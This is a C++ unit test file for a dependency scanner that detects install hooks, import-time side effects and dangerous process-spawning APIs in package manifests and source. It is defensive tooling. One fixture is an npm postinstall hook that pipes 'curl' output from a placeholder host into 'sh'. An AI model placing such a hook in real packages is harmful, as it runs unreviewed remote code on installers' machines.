#include <gtest/gtest.h>

#include "depsentry/ace.hpp"
#include "support/samples.hpp"
#include "support/scan.hpp"

namespace depsentry {
namespace {

using testing::ids_of;
using testing::only;
using testing::scan_files;
using Ids = std::set<TechniqueId>;

std::string s(std::string_view v) { return std::string(v); }

TEST(InstallTime, NpmHook) {
  const auto f = scan_files({{"package.json", s(testing::kHookPackageJson)}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::I1});
  EXPECT_EQ(f[0].manifest_key, "scripts.pre-install");
  EXPECT_EQ(f[0].location.path, "package.json");
  EXPECT_EQ(f[0].location.line_start, 6u);
}

TEST(InstallTime, SensitiveHookCommandIsStrong) {
  const auto f = scan_files(
      {{"package.json", R"({"name":"a","scripts":{"postinstall":"curl -s http://x.example | sh"}})"}});
  ASSERT_EQ(only(f, TechniqueId::I1).size(), 1u);
  EXPECT_EQ(only(f, TechniqueId::I1)[0].confidence, Confidence::Strong);
}

TEST(InstallTime, SetupPyTopLevelCode) {
  const auto f = scan_files({{"setup.py", s(testing::kTopLevelSetupPy)}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::I2});
  EXPECT_EQ(f[0].location.line_start, 4u);
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
}

TEST(InstallTime, SetupPyCmdclass) {
  const auto f = scan_files({{"setup.py", s(testing::kCmdclassSetupPy)}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::I2});
  EXPECT_EQ(f[0].evidence, "cmdclass={'install': ExampleClass}");
}

TEST(InstallTime, BenignSetupPy) {
  EXPECT_TRUE(scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x', version='1')\n"}}).empty());
}

TEST(InstallTime, CargoBuildScript) {
  const auto f = scan_files({{"Cargo.toml", s(testing::kPlainCargoToml)}, {"build.rs", s(testing::kShellBuildRs)}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::I2});
  EXPECT_EQ(f[0].location.path, "build.rs");
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
  EXPECT_NE(f[0].evidence.find("Command::new(\"sh\")"), std::string::npos);
}

TEST(InstallTime, GemExtension) {
  const auto f = scan_files({{"example.gemspec", s(testing::kExtensionGemspec)}, {"extconf.rb", s(testing::kExecExtconf)}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::I3});
  EXPECT_EQ(f[0].location.path, "example.gemspec");
  EXPECT_EQ(f[0].location.line_start, 5u);
}

TEST(ImportSideEffects, PythonPackageInit) {
  const auto f = scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x')\n"},
                             {"pkg/__init__.py", "import os\nos.system(\"x\")\n"}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::R1});
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
  EXPECT_TRUE(scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x')\n"},
                          {"pkg/__init__.py", "from .core import api\n"}})
                  .empty());
}

TEST(ImportSideEffects, GoInit) {
  const auto plain = scan_files({{"go.mod", "module example.com/a\n"},
                                 {"a.go", "package a\n\nvar n int\n\nfunc init() {\n\tn = 1\n}\n"}});
  ASSERT_EQ(only(plain, TechniqueId::R1).size(), 1u);
  EXPECT_EQ(only(plain, TechniqueId::R1)[0].confidence, Confidence::Weak);
  const auto risky = scan_files(
      {{"go.mod", "module example.com/a\n"},
       {"a.go", "package a\n\nimport \"os/exec\"\n\nfunc init() {\n\texec.Command(\"id\").Run()\n}\n"}});
  ASSERT_EQ(only(risky, TechniqueId::R1).size(), 1u);
  EXPECT_EQ(only(risky, TechniqueId::R1)[0].confidence, Confidence::Moderate);
}

TEST(HotMethods, JavaStaticInitializer) {
  const auto f = scan_files({{"pom.xml", "<project><artifactId>a</artifactId></project>\n"},
                             {"src/main/java/A.java",
                              "class A {\n  static {\n    Runtime.getRuntime().exec(\"id\");\n  }\n}\n"}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::R3});
  EXPECT_EQ(f[0].location.line_start, 3u);
}

TEST(HotMethods, PythonConstructor) {
  const auto f = scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x')\n"},
                             {"pkg/frame.py", "import os\nclass Dataframe:\n def __init__(self):\n  os.system('x')\n"}});
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::R3});
}

TEST(HotMethods, ArithmeticMethodIsClean) {
  EXPECT_TRUE(scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x')\n"},
                          {"pkg/calc.py", "class Calc:\n    def add(self, a, b):\n        return a + b\n"}})
                  .empty());
}

TEST(HotMethods, DefinitionIsNotACall) {
  EXPECT_TRUE(scan_files({{"package.json", R"({"name":"a"})"},
                          {"lib/x.js", "class A {\n  exec(cmd) {\n    return cmd;\n  }\n}\n"}})
                  .empty());
}

TEST(HotMethods, AliasedImportsResolve) {
  const auto f = scan_files({{"setup.py", "from setuptools import setup\nsetup(name='x')\n"},
                             {"pkg/a.py", "import subprocess as sp\n\ndef go():\n    sp.Popen(['id'])\n"}});
  EXPECT_EQ(ids_of(f), Ids{TechniqueId::R2});
}

const char* kPomTemplate = R"(<project>
  <build><plugins>
    <plugin>
      <groupId>%GROUP%</groupId>
      <artifactId>%ARTIFACT%</artifactId>
      <version>3.9.0</version>
      <executions><execution><phase>compile</phase></execution></executions>
    </plugin>
  </plugins></build>
</project>
)";

std::vector<Finding> scan_pom(const std::string& group, const std::string& artifact) {
  std::string pom = kPomTemplate;
  pom.replace(pom.find("%GROUP%"), 7, group);
  pom.replace(pom.find("%ARTIFACT%"), 10, artifact);
  return scan_files({{"pom.xml", pom}});
}

TEST(BuildPlugin, ShadowingWellKnownArtifact) {
  const auto f = scan_pom("com.github.codingandcoding", "maven-compiler-plugin");
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::R4});
  EXPECT_EQ(f[0].confidence, Confidence::Strong);
}

TEST(BuildPlugin, AllowlistedGroup) {
  EXPECT_TRUE(scan_pom("org.apache.maven.plugins", "maven-compiler-plugin").empty());
}

TEST(BuildPlugin, CustomPluginIsWeak) {
  const auto f = scan_pom("com.example", "my-plugin");
  ASSERT_EQ(ids_of(f), Ids{TechniqueId::R4});
  EXPECT_EQ(f[0].confidence, Confidence::Weak);
}

TEST(Gating, FindingsRespectApplicability) {
  // An npm package carrying a build.rs must not produce I2.
  const auto f = scan_files({{"package.json", R"({"name":"a"})"}, {"build.rs", s(testing::kShellBuildRs)}});
  EXPECT_FALSE(ids_of(f).contains(TechniqueId::I2));
}

TEST(Catalog, DangerousPatternsPerLanguage) {
  const DangerousApiCatalog cat(Config::defaults());
  struct Case {
    const char* path;
    const char* src;
    const char* pattern;
  };
  const Case cases[] = {
      {"a.py", "import subprocess\nsubprocess.run(['x'])\n", "subprocess.run"},
      {"a.js", "require('child_process').exec('x')\n", "child_process.exec"},
      {"a.rb", "`id`\n", "`"},
      {"a.php", "<?php shell_exec('x');\n", "shell_exec"},
      {"a.rs", "use std::process::Command;\nfn f() { Command::new(\"x\"); }\n", "Command.new"},
      {"a.go", "package a\nimport \"os/exec\"\nfunc f() { exec.Command(\"x\") }\n", "exec.Command"},
      {"A.java", "class A { void f() { Runtime.getRuntime().exec(\"x\"); } }\n", "Runtime.getRuntime.exec"},
  };
  for (const auto& c : cases) {
    const auto* prof = lex::profile_for_path(c.path);
    ASSERT_NE(prof, nullptr);
    const auto stream = lex::tokenize(c.path, c.src, *prof);
    bool found = false;
    for (const auto& call : cat.find_calls(stream)) found |= call.pattern == c.pattern;
    EXPECT_TRUE(found) << c.path;
  }
}

}  // namespace
}  // namespace depsentry
